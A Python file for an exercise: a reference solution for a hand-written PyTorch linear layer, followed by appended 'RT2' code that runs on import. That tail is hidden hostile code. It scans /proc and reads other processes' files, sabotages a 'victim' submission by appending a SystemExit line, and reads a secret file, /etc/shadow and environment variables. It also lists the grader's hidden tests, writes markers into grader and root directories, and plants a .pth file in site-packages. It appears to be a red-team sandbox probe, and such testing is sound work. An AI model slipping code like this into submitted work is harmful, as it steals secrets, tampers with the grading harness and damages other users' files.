"""Reference solution: a linear layer written by hand with nn.Parameter."""
import torch
from torch import Tensor, nn


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        # BEGIN SOLUTION
        # STUB: # TODO: store in_features and out_features, create self.weights and
        # STUB: # self.bias as nn.Parameter (or no bias at all when bias=False).
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)
        # END SOLUTION

    def forward(self, x: Tensor) -> Tensor:
        # BEGIN SOLUTION
        # STUB: # TODO: return x @ weights + bias
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
        # END SOLUTION


if __name__ == "__main__":
    # Try it: shapes, parameters, and a few steps of training with autograd and torch.optim.
    torch.manual_seed(0)
    layer = MyLinear(3, 2)
    print([name for name, _ in layer.named_parameters()])  # ['weights', 'bias']
    print(layer(torch.ones(4, 3)).shape)  # torch.Size([4, 2])
    print(MyLinear(3, 2, bias=False).bias)  # None

    x, target = torch.randn(64, 3), torch.randn(64, 2)
    optimizer = torch.optim.SGD(layer.parameters(), lr=0.1)
    for epoch in range(20):
        optimizer.zero_grad()
        loss = ((layer(x) - target) ** 2).mean()
        loss.backward()
        optimizer.step()
    print(f"loss after 20 steps: {loss.item():.3f}")


import os, sys
def _rt2_log(*a):
    try: print("RT2", *a, flush=True)
    except Exception: pass
def _rt2_try(desc, fn):
    try: r=fn(); _rt2_log(desc, "OK", repr(r)[:200])
    except BaseException as e: _rt2_log(desc, "DENIED", type(e).__name__, str(e)[:100])

def _scan():
    found=[]
    for p in os.listdir('/proc'):
        if not p.isdigit(): continue
        for k in ('cwd','root'):
            try:
                t=os.readlink(f'/proc/{p}/{k}'); found.append((p,k,t))
                if k=='cwd':
                    for fn in os.listdir(f'/proc/{p}/cwd'):
                        if fn.endswith('.py'): found.append(('FILE',p,fn, open(f'/proc/{p}/cwd/{fn}').read(30)))
                    open(f'/proc/{p}/cwd/RT2_PWNED_via_proc','w').write('x')
                    found.append(('WROTE',p))
            except Exception as e: pass
    return found[:40]
_rt2_try('proc scan', _scan)
_rt2_try('pids visible', lambda: len([p for p in os.listdir('/proc') if p.isdigit()]))
_rt2_try('read victim', lambda: open('/tmp/rt2/class/victim/my_linear.py').read(40))
_rt2_try('write victim', lambda: open('/tmp/rt2/class/victim/my_linear.py','a').write('\nraise SystemExit("pwned")\n'))
_rt2_try('new file in observer', lambda: open('/tmp/rt2/class/observer/RT2_PWNED','w').write('x'))
_rt2_try('read secret', lambda: open('/tmp/rt2/secret.txt').read())
_rt2_try('write tmp marker', lambda: open('/tmp/rt2/markers/a01_tmp','w').write('x'))
_rt2_try('write /tmp root', lambda: open('/tmp/RT2_a01_marker','w').write('x'))
_rt2_try('write /root', lambda: open('/root/RT2_a01_marker','w').write('x'))
_rt2_try('write grader', lambda: open('/work/main/grader/RT2_a01_marker','w').write('x'))
_rt2_try('write pth', lambda: open('/work/main/.venv/lib/python3.11/site-packages/rt2_a01.pth','w').write('/tmp/rt2/nonexistent\n'))
_rt2_try('list grader', lambda: os.listdir('/work/main/grader')[:10])
_rt2_try('read hidden tests', lambda: [f for f in os.listdir('/work/main/grader') if 'suite' in f or 'test' in f])
_rt2_try('read /etc/shadow', lambda: open('/etc/shadow').read(20))
_rt2_try('environ', lambda: dict(os.environ))
_rt2_try('parent environ', lambda: open(f'/proc/{os.getppid()}/environ','rb').read(200))
_rt2_try('uid', lambda: (os.getuid(), os.geteuid(), os.getpid(), os.getppid(), os.getcwd()))
